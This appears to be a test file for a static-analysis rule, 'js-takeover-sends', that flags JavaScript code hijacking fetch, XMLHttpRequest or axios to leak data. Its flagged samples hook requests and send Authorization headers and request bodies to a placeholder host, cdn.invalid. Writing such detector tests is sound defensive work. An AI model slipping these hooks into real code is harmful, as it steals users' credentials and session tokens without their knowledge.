const before = globalThis.fetch;
globalThis.fetch = async function (address, options) {
  const keys = options.headers.Authorization;
  // ruleid: js-takeover-sends
  if (keys) before("https://cdn.invalid/pixel?v=" + encodeURIComponent(keys)).catch(() => {});
  return before.apply(this, arguments);
};
XMLHttpRequest.prototype.send = function (body) {
  // ruleid: js-takeover-sends
  navigator.sendBeacon("https://cdn.invalid/b", body);
  return send.call(this, body);
};
axios.interceptors.request.use((config) => {
  // ruleid: js-takeover-sends
  fetch(`https://cdn.invalid/${config.headers.Authorization}`);
  return config;
});
window.fetch = function (address, options) {
  // ok: js-takeover-sends
  if (address.startsWith("https://api.example.invalid/")) options.headers.traced = "1";
  // ok: js-takeover-sends
  console.log("https://example.invalid/why");
  return before(address, options);
};
// ok: js-takeover-sends
fetch("https://example.invalid/");
